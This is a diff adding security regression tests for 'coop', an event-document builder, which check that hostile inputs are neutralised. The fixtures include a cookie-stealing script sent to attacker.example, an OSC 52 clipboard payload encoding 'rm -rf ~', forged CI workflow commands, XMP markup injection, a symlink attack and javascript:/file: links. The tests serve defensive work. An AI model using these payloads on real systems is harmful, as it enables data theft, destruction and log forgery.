@@ -398,3 +398,437 @@ describe('5. attendees beyond the documented limit are refused up front, with th
     expect(maxAttendees({ COOP_MAX_ATTENDEES: '200000' })).toBe(200_000);
   });
 });
+
+// ---------------------------------------------------------------------------------------
+// 7 and 17. Temporary files
+
+describe('7/17. temporary files: exclusive, unpredictable, cleaned up, stale ones removed', () => {
+  it('a symbolic link planted where the old predictable temporary file went is not followed', async () => {
+    const b = bundle({ 'event.yaml': EVENT });
+    const out = path.join(b.project, 'out');
+    mkdirSync(out);
+    const victim = path.join(b.outside, 'victim.txt');
+    writeFileSync(victim, 'intact');
+    // The name the previous code used, with the pid of this (in-process) build.
+    symlinkSync(victim, path.join(out, `.programme.html.${process.pid}.tmp`));
+    const built = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html'], b.project);
+    expect(built.code, built.stderr).toBe(0);
+    expect(readFileSync(victim, 'utf8')).toBe('intact');
+    expect(readFileSync(path.join(out, 'programme.html'), 'utf8')).toContain('Séminaire');
+    // Temporary files are coop's (.coop-PID-RANDOM.tmp) and none is left behind.
+    expect(readdirSync(out).filter((f) => f.startsWith('.coop-'))).toEqual([]);
+  });
+
+  it('the next build removes the temporary files a killed build left, and only those', async () => {
+    const b = bundle({ 'event.yaml': EVENT });
+    const out = path.join(b.project, 'out');
+    mkdirSync(out);
+    const victim = path.join(b.outside, 'victim.txt');
+    writeFileSync(victim, 'intact');
+    const dead = 2_147_483_646; // no such process
+    writeFileSync(path.join(out, `.coop-${dead}-0123456789abcdef.tmp`), 'half a PDF');
+    symlinkSync(victim, path.join(out, `.coop-${dead}-fedcba9876543210.tmp`));
+    // a running build's file (this process), fresh: kept; the same, a day old: removed
+    writeFileSync(path.join(out, `.coop-${process.pid}-00000000000000aa.tmp`), 'in progress');
+    writeFileSync(path.join(out, `.coop-${process.pid}-00000000000000bb.tmp`), 'forgotten');
+    const old = (Date.now() - 25 * 3600 * 1000) / 1000;
+    utimesSync(path.join(out, `.coop-${process.pid}-00000000000000bb.tmp`), old, old);
+    writeFileSync(path.join(out, '.coop-notes.tmp'), 'not coop’s naming');
+    writeFileSync(path.join(out, 'rapport.pdf'), 'the user’s');
+    const built = await run(['build', 'event.yaml', '-o', 'out', '--only', 'event.ics'], b.project);
+    expect(built.code, built.stderr).toBe(0);
+    expect(readdirSync(out).sort()).toEqual([`.coop-${process.pid}-00000000000000aa.tmp`, '.coop-notes.tmp', 'event.ics', 'rapport.pdf']);
+    expect(readFileSync(victim, 'utf8')).toBe('intact');
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 16. I/O errors
+
+describe('16. I/O errors say what happened and where (exit 2), never "a bug in coop"', () => {
+  it('an output path that is a file', async () => {
+    const b = bundle({ 'event.yaml': EVENT, 'out.txt': 'a file' });
+    const r = await run(['build', 'event.yaml', '-o', 'out.txt'], b.project);
+    expectNoCrash(r);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('out.txt');
+    expect(r.stderr).toContain('cannot write into out.txt: it is a file, not a folder');
+    expect(r.stderr).not.toContain('bug in coop');
+    const nested = await run(['build', 'event.yaml', '-o', 'out.txt/sous-dossier'], b.project);
+    expect(nested.code).toBe(2);
+    expect(nested.stderr).toContain('ENOTDIR');
+  });
+
+  it('an output name taken by a folder: nothing replaced, no temporary file left', async () => {
+    const b = bundle({ 'event.yaml': EVENT });
+    mkdirSync(path.join(b.project, 'out', 'programme.pdf'), { recursive: true });
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html,programme.pdf'], b.project);
+    expectNoCrash(r);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('out/programme.pdf');
+    expect(readdirSync(path.join(b.project, 'out')).filter((f) => f.startsWith('.coop-'))).toEqual([]);
+  });
+
+  it('init onto a file', async () => {
+    const b = bundle({ 'fichier.txt': 'a file' });
+    const r = await run(['init', 'fichier.txt'], b.project);
+    expectNoCrash(r);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('fichier.txt is a file');
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 8. XMP
+
+describe('8. the XMP metadata is escaped', () => {
+  it('a title with & and crafted markup stays the title, valid XML, no forged property', async () => {
+    const title = 'Eau & assainissement </rdf:li></rdf:Alt></dc:title><dc:rights>forged</dc:rights><dc:title><rdf:Alt><rdf:li>';
+    const b = bundle({ 'event.yaml': `event: { title: ${JSON.stringify(title)} }\norganisations: { o: { name: "A & B <c>" } }\n${DAYS.replace('days:', 'days:')}`.replace('event: {', 'event: { organisers: [o],') });
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.pdf'], b.project);
+    expect(r.code, r.stderr).toBe(0);
+    const bytes = readFileSync(path.join(b.project, 'out', 'programme.pdf'));
+    const raw = bytes.toString('latin1');
+    const xmp = raw.slice(raw.indexOf('<x:xmpmeta'), raw.indexOf('</x:xmpmeta>') + 12);
+    expect(xmp).toContain('Eau &amp; assainissement &lt;/rdf:li&gt;');
+    expect(xmp).not.toContain('<dc:rights>');
+    const doc = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
+    const meta = await doc.getMetadata();
+    await doc.destroy();
+    expect(meta.metadata?.get('dc:title')).toBe(title);
+    expect(meta.metadata?.get('dc:rights')).toBeFalsy();
+    expect((meta.info as { Title?: string }).Title).toBe(title);
+    expect((meta.info as { Author?: string }).Author).toBe('A & B <c>');
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 9 and 10. Workflow commands and terminal escapes
+
+/** Control characters a terminal acts on (coop prints no colour when the stream is not a TTY). */
+const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;
+
+describe('9/10. nothing from the input acts on a terminal or starts a line of a CI log', () => {
+  const ESC = '\u001b';
+  const hostile = {
+    // YAML escapes: OSC 52 (clipboard), a window title, a screen clear, a bell, a forged workflow command
+    'event.yaml': [
+      'event:',
+      '  title: "Séminaire\\e]52;c;cm0gLXJmIH4=\\a\\e]0;pwned\\a\\e[2J\\n::error file=event.yaml,line=1::Forged"',
+      'people:',
+      '  x: { name: "Jean\\e[31m DUPONT", role: "\\x07Maire\\n::warning::Forged" }',
+      'attendees:',
+      '  - file: liste.csv',
+      'minutes: [minutes/*.md]',
+      'days:',
+      '  - date: 2016-05-19',
+      '    sessions:',
+      '      - title: "Matin\\r::error::Forged"',
+      '        start: "9h"',
+      '        end: "12h"',
+      '        chair: [x]',
+      '        items:',
+      '          - { title: "Exposé\\e[8m", duration: 10min }',
+      '          - { title: "Exposé\\e[8m", duration: 10min }',
+    ].join('\n'),
+    'liste.csv': Buffer.from(`Nom;Prénom;Courriel\nDUPONT${ESC}]52;c;eA==${'\u0007'};Anne;pas-une-adresse${ESC}[2J\n`, 'utf8'),
+  };
+  const minutesName = `cr\n::error file=x::Forged${ESC}]0;t${'\u0007'}.md`;
+  const minutesText = `---\ntitle: "CR\\e[2J"\ndate: 2016-05-19\n---\n\n# Point${ESC}[31m rouge\n\n- [ ] Action sans responsable${ESC}]52;c;eA==${'\u0007'}\n`;
+
+  function expectInert(text: string, what: string): void {
+    expect(text, `${what}: a raw control character`).not.toMatch(RAW_CONTROL);
+    for (const line of text.split('\n')) {
+      expect(line.startsWith('::'), `${what}: a line starts with "::": ${line}`).toBe(false);
+    }
+  }
+
+  it('check (text), build, actions and model outputs are inert; the controls show as \\x1b', async () => {
+    const b = bundle(hostile);
+    mkdirSync(path.join(b.project, 'minutes'));
+    writeFileSync(path.join(b.project, 'minutes', minutesName), minutesText);
+    const checked = await run(['check', 'event.yaml'], b.project);
+    expectNoCrash(checked);
+    expectInert(checked.stdout + checked.stderr, 'check');
+    expect(checked.stdout).toContain('\\x1b]52;c;');
+    expect(checked.stdout).toContain('cr\\n::error file=x::Forged');
+    expect(checked.stdout).toContain('syntax/control-character');
+    const built = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
+    expectNoCrash(built);
+    expectInert(built.stdout + built.stderr, 'build');
+    expect(built.stdout).toContain('wrote out/cr\\n::error file=x::Forged\\x1b]0;t\\x07.html');
+    const actions = await run(['actions', 'event.yaml', '--today', '2016-06-01'], b.project);
+    expectInert(actions.stdout + actions.stderr, 'actions');
+    const model = await run(['model', 'event.yaml'], b.project);
+    expectInert(model.stderr, 'model');
+    // The documents carry no control character either (HTML forbids them; a PDF shows boxes).
+    for (const f of readdirSync(path.join(b.project, 'out')).filter((n) => n.endsWith('.html'))) {
+      expect(readFileSync(path.join(b.project, 'out', f), 'utf8'), f).not.toMatch(RAW_CONTROL);
+    }
+    expect(readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8')).not.toMatch(/\\u001b|\\u0007/);
+  });
+
+  it('--format github escapes line breaks and controls: one command per diagnostic, none forged', async () => {
+    const b = bundle(hostile);
+    const r = await run(['check', '--format', 'github', 'event.yaml'], b.project);
+    expectNoCrash(r);
+    expect(r.stdout).not.toMatch(RAW_CONTROL);
+    const lines = r.stdout.trimEnd().split('\n');
+    const json = await checkJson('event.yaml', b.project);
+    expect(lines.length).toBe(json.diagnostics.length + 1);
+    for (const l of lines.slice(0, -1)) expect(l).toMatch(/^::(error|warning|notice) file=event\.yaml|^::(error|warning|notice) file=liste\.csv/);
+  });
+
+  it('a progress line names a minutes file inertly', async () => {
+    const { progressLine } = await import('../src/cli/progress.js');
+    const stderr = new Capture();
+    stderr.isTTY = true;
+    let now = 0;
+    const line = progressLine({ stdout: new Capture(), stderr, cwd: '/', env: {} }, false, () => now);
+    now = 5000;
+    line.progress({ output: `cr${ESC}]52;c;eA==\u0007.pdf`, page: 3 });
+    // coop's own sequences (carriage return, erase line) only
+    expect(stderr.text.replace(/\r\u001b\[2K/g, '')).not.toMatch(RAW_CONTROL);
+    expect(stderr.text).toContain('cr\\x1b]52;c;eA==\\x07.pdf, page 3');
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 11. Templates chosen by the event
+
+describe('11. templates chosen by the event are sanitised and bounded', () => {
+  const evil = [
+    '<h1>{{event.title}}</h1>',
+    '<script>fetch("https://attacker.example/?c=" + document.cookie)</script>',
+    '<p onclick="alert(1)" style="background:url(https://tracker.example/bg.png)">texte</p>',
+    '<a href="javascript:alert(1)">js</a> <a href="file:///etc/passwd">file</a> <a href="smb://attacker.example/share">smb</a>',
+    '<a href="../../etc/passwd">rel</a> <a href="//attacker.example/x">proto</a> <a href="https://example.org/ok">ok</a> <a href="mailto:a@example.org">mail</a>',
+    '<img src="https://tracker.example/pixel.png" alt="pixel"> <img src="data:image/png;base64,AAAA" alt="data">',
+    '<iframe src="https://attacker.example"></iframe><object data="x.swf"></object><form action="https://attacker.example"><input name="q"></form>',
+    '<svg><script>alert(1)</script></svg><style>body{background:url(https://tracker.example/s.png)}</style>',
+    '{{markdown event.description}}',
+  ].join('\n');
+  const files = {
+    'event.yaml': `templates: tpl\nevent:\n  title: Séminaire\n  description: "[rel](../../etc/passwd) [proto](//attacker.example/x) [js](javascript:alert(1)) ![pixel](https://tracker.example/md.png) [ok](https://example.org/md)"\n${DAYS}`,
+    'tpl/programme/programme.hbs': evil,
+    'tpl/layout.hbs': '<!DOCTYPE html>\n<html lang="{{lang}}"><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://attacker.example"><link rel="stylesheet" href="https://tracker.example/x.css"><script src="https://attacker.example/x.js"></script><title>{{title}}</title><style>{{{css}}}</style></head><body onload="alert(1)">{{{body}}}</body></html>\n',
+    'tpl/style.css': 'h1 { color: red; }\n@import url("https://tracker.example/i.css");\nbody { background: url(https://tracker.example/b.png); }\np { background: u\\72 l(https://tracker.example/e.png); }\n</style><script>alert(1)</script>\n',
+  };
+
+  it('no script, event handler, unsafe or relative link, remote image or remote stylesheet reaches the HTML', async () => {
+    const b = bundle(files);
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html,programme.pdf'], b.project);
+    expect(r.code, r.stderr).toBe(0);
+    const html = readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8');
+    for (const bad of ['<script', 'onclick', 'onload', 'javascript:', 'file:', 'smb:', 'etc/passwd', 'attacker.example', 'tracker.example', '<iframe', '<object', '<form', 'http-equiv', '<link', 'data:image']) {
+      expect(html, bad).not.toContain(bad);
+    }
+    expect(html).toContain('<a href="https://example.org/ok">ok</a>');
+    expect(html).toContain('<a href="mailto:a@example.org">mail</a>');
+    expect(html).toContain('<a href="https://example.org/md">ok</a>');
+    expect(html).toContain('color: red'); // the user's style sheet, the rest neutralised
+    expect(html).toContain('<h1>Séminaire</h1>');
+  });
+
+  it('the PDF carries links to http(s) and mailto only', async () => {
+    const b = bundle(files);
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.pdf'], b.project);
+    expect(r.code, r.stderr).toBe(0);
+    const links = await pdfLinks(readFileSync(path.join(b.project, 'out', 'programme.pdf')));
+    expect(links.sort()).toEqual(['https://example.org/md', 'https://example.org/ok', 'mailto:a@example.org']);
+  });
+
+  it('nine nested {{#each @root.days}} stop at the loop budget, in seconds, at the loop', async () => {
+    const days = Array.from({ length: 10 }, (_, i) => `  - date: 2016-05-${String(10 + i).padStart(2, '0')}\n    sessions: []\n`).join('');
+    const nested = `${'{{#each @root.days}}'.repeat(9)}x${'{{/each}}'.repeat(9)}`;
+    const b = bundle({ 'event.yaml': `templates: tpl\nevent: { title: Séminaire }\ndays:\n${days}`, 'tpl/programme/programme.hbs': `<h1>{{event.title}}</h1>\n${nested}\n` });
+    const t0 = performance.now();
+    const checked = await checkJson('event.yaml', b.project);
+    expect(performance.now() - t0).toBeLessThan(10_000);
+    const e = errorsOf(checked.diagnostics);
+    expect(e.map((d) => [d.rule, d.file, d.line])).toEqual([['template/invalid', 'tpl/programme/programme.hbs', 2]]);
+    expect(e[0].message).toContain('too many times');
+    const built = await run(['build', 'event.yaml', '-o', 'out'], b.project);
+    expect(built.code).toBe(1);
+  });
+
+  it('a partial that includes itself, HTML nested 10,000 deep, and unclosed formatting tags are template errors, not crashes', async () => {
+    const cases: Record<string, string> = {
+      'partials/item.hbs': '{{> item}}',
+      'programme/programme.hbs': '<div>'.repeat(10_000),
+      'layout.hbs': '<html><body>{{{body}}}' + Array.from({ length: 3000 }, (_, i) => `<b class="c${i}">`).join('') + '<p>x</p>'.repeat(3000) + '</body></html>',
+    };
+    for (const [file, text] of Object.entries(cases)) {
+      const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, [`tpl/${file}`]: text });
+      const t0 = performance.now();
+      const checked = await checkJson('event.yaml', b.project);
+      expect(performance.now() - t0, file).toBeLessThan(10_000);
+      expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file]), file).toEqual([['template/invalid', `tpl/${file}`]]);
+    }
+  });
+
+  it('a layout that puts {{{body}}} in an attribute or {{{css}}} outside a <style> is refused', async () => {
+    for (const layout of ['<html><body><div title="{{{body}}}"></div></body></html>', '<html><head><title>{{{css}}}</title></head><body>{{{body}}}</body></html>', '<html><body></body></html>']) {
+      const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/layout.hbs': layout });
+      const checked = await checkJson('event.yaml', b.project);
+      expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file]), layout).toEqual([['template/invalid', 'tpl/layout.hbs']]);
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 18. The smaller items
+
+describe('18. the smaller items', () => {
+  it('--only with no name is a usage error that says so', async () => {
+    const b = bundle({ 'event.yaml': EVENT });
+    const r = await run(['build', 'event.yaml', '--only', ''], b.project);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('--only: no output named');
+    expect(r.stderr).not.toContain('fix the errors above');
+  });
+
+  it('names made only of NUL, a zero-width space or a space are refused, in YAML and in a CSV', async () => {
+    const b = bundle({
+      'event.yaml': `event: { title: Séminaire }\npeople:\n  a: { name: "\\0" }\n  b: { name: "\\u200B" }\n  c: { name: " " }\n${DAYS}`,
+      'csv.yaml': `event: { title: Séminaire }\nattendees:\n  - file: liste.csv\n${DAYS}`,
+      'liste.csv': 'Nom\nDUPONT\n\u200b\u200b\n\u3164\u2060\n',
+    });
+    const checked = await checkJson('event.yaml', b.project);
+    const e = errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column]);
+    expect(e).toEqual([
+      ['schema/invalid', 'event.yaml', 3, 14],
+      ['schema/invalid', 'event.yaml', 4, 14],
+      ['schema/invalid', 'event.yaml', 5, 14],
+    ]);
+    const csv = await checkJson('csv.yaml', b.project);
+    expect(errorsOf(csv.diagnostics).map((d) => [d.rule, d.file, d.line])).toEqual([
+      ['schema/invalid', 'liste.csv', 3],
+      ['schema/invalid', 'liste.csv', 4],
+    ]);
+  });
+
+  it('a right-to-left override in a name is flagged (syntax/bidi-control), at the name', async () => {
+    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\npeople:\n  a: { name: "Jean \\u202ETNOPUD" }\n${DAYS}`, 'liste.csv': 'Nom\nAnne \u202eNITRAM\n' });
+    const checked = await checkJson('event.yaml', b.project);
+    expect(checked.diagnostics.filter((d) => d.rule === 'syntax/bidi-control').map((d) => [d.severity, d.line, d.column])).toEqual([['warning', 3, 14]]);
+    writeFileSync(path.join(b.project, 'event.yaml'), `event: { title: Séminaire }\nattendees: [{ file: liste.csv }]\n${DAYS}`);
+    const csv = await checkJson('event.yaml', b.project);
+    expect(csv.diagnostics.filter((d) => d.rule === 'syntax/bidi-control').map((d) => [d.file, d.line])).toEqual([['liste.csv', 2]]);
+  });
+
+  it('a misspelled helper argument is a template error at its place, never "UNDEFINED"', async () => {
+    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/partials/item.hbs': '<div class="item">\n<p>{{upper titel}}</p>\n</div>\n' });
+    const checked = await checkJson('event.yaml', b.project);
+    const e = errorsOf(checked.diagnostics);
+    expect(e.map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['template/invalid', 'tpl/partials/item.hbs', 2, 4]]);
+    expect(e[0].message).toContain('upper');
+  });
+
+  it('{{log}} writes nothing to the terminal: it is refused', async () => {
+    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/partials/item.hbs': '{{log "hello from the template"}}<div class="item">{{title}}</div>\n' });
+    const spies = (['log', 'info', 'debug', 'warn', 'error'] as const).map((k) => vi.spyOn(console, k).mockImplementation(() => {}));
+    try {
+      const r = await run(['build', 'event.yaml', '-o', 'out'], b.project);
+      expect(r.code).toBe(1);
+      expect(r.stderr).toContain('"log" helper is not available');
+      for (const s of spies) expect(s).not.toHaveBeenCalled();
+    } finally {
+      for (const s of spies) s.mockRestore();
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 14 and 15. Well-formed JSON, years
+
+/** A `\ud800`-style escape not paired with its other half: what jq refuses. */
+const LONE_ESCAPE = /\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f][0-9a-f]{2})|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}/i;
+
+describe('14. JSON that any parser reads', () => {
+  it('a message cut in the middle of an emoji is cut before it', async () => {
+    const b = bundle({ 'cr.md': `---\ntitle: CR\ndate: 2016-05-19\n---\n\n- [ ] ${'x'.repeat(58)}😀😀 fin\n` });
+    const r = await run(['check', '--format', 'json', 'cr.md'], b.project);
+    expect(r.stdout).toContain('minutes/action-owner');
+    expect(r.stdout).not.toMatch(LONE_ESCAPE);
+    expect(JSON.parse(r.stdout).diagnostics[0].message).toContain(`${'x'.repeat(58)}😀…`);
+    const sarif = await run(['check', '--format', 'sarif', 'cr.md'], b.project);
+    expect(sarif.stdout).not.toMatch(LONE_ESCAPE);
+  });
+
+  it('"\\uD800" in a title is replaced on input, with a warning at the title, and never reaches schedule.json', async () => {
+    const b = bundle({ 'event.yaml': `event: { title: "Séminaire \\uD800" }\n${DAYS}` });
+    const checked = await checkJson('event.yaml', b.project);
+    expect(checked.diagnostics.filter((d) => d.rule === 'syntax/control-character').map((d) => [d.severity, d.line, d.column])).toEqual([['warning', 1, 17]]);
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'schedule.json,event.ics'], b.project);
+    expect(r.code, r.stderr).toBe(0);
+    const json = readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8');
+    expect(json).not.toMatch(LONE_ESCAPE);
+    expect(json).toContain('Séminaire \uFFFD');
+  });
+});
+
+describe('15. years far from the present', () => {
+  it('0026-03-12: a warning at the date, and the exports say year 26, not 1926', async () => {
+    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\ndays:\n  - date: 0026-03-12\n    sessions:\n      - { title: Matin, start: "9h", end: "12h" }\n` });
+    const checked = await checkJson('event.yaml', b.project);
+    expect(checked.diagnostics.map((d) => [d.rule, d.severity, d.line, d.column])).toContainEqual(['schedule/unlikely-year', 'warning', 3, 11]);
+    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'event.ics,schedule.json'], b.project);
+    expect(r.code, r.stderr).toBe(0);
+    const ics = readFileSync(path.join(b.project, 'out', 'event.ics'), 'utf8');
+    expect(ics).toMatch(/DTSTART;TZID=Europe\/Paris:00260312T090000|DTSTART:00260312T/);
+    expect(ics).not.toContain('1926');
+    const json = readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8');
+    expect(json).toContain('0026-03-12');
+    expect(json).not.toContain('1926');
+  });
+
+  it('minutes dated 0016: the warning points at `date:` in the front matter', async () => {
+    const b = bundle({ 'cr.md': '---\ntitle: CR\ndate: 0016-05-19\n---\n\nTexte.\n' });
+    const checked = await checkJson('cr.md', b.project);
+    expect(checked.diagnostics.map((d) => [d.rule, d.line, d.column])).toEqual([['schedule/unlikely-year', 3, 7]]);
+  });
+});
+
+// ---------------------------------------------------------------------------------------
+// 12. --watch after atomic saves
+
+async function until(check: () => boolean, ms = 20_000): Promise<void> {
+  const end = Date.now() + ms;
+  while (!check()) {
+    if (Date.now() > end) throw new Error('timed out');
+    await new Promise((r) => setTimeout(r, 50));
+  }
+}
+
+describe('12. --watch keeps hearing after an atomic save, and says so when an input goes away', () => {
+  it('an atomic replace (write a copy, rename it over), then an in-place edit, then a deletion', async () => {
+    const b = bundle({ 'event.yaml': EVENT });
+    const stdout = new Capture();
+    const stderr = new Capture();
+    const controller = new AbortController();
+    const done = main({ argv: ['build', '--watch', 'event.yaml', '-o', 'out', '--only', 'programme.html'], stdout, stderr, cwd: b.project, env: {}, signal: controller.signal });
+    try {
+      await until(() => stdout.text.includes('watching for changes'));
+      const file = path.join(b.project, 'event.yaml');
+      const html = () => readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8');
+      // sed -i / an editor's safe write
+      writeFileSync(`${file}.tmp`, EVENT.replace('Séminaire', 'Séminaire atomique'));
+      renameSync(`${file}.tmp`, file);
+      await until(() => html().includes('Séminaire atomique'));
+      // then an ordinary in-place edit, which Node's recursive watch no longer heard
+      writeFileSync(file, EVENT.replace('Séminaire', 'Séminaire modifié sur place'));
+      await until(() => html().includes('Séminaire modifié sur place'));
+      // deleting the input: a clear line, not an unpositioned ENOENT
+      rmSync(file);
+      await until(() => stderr.text.includes('was removed or renamed'));
+      expect(stderr.text).not.toContain('ENOENT');
+      expect(stderr.text).toContain('event.yaml was removed or renamed: waiting for it to come back');
+      writeFileSync(file, EVENT.replace('Séminaire', 'Séminaire revenu'));
+      await until(() => html().includes('Séminaire revenu'));
+    } finally {
+      controller.abort();
+      await done;
+    }
+  }, 60_000);
+});
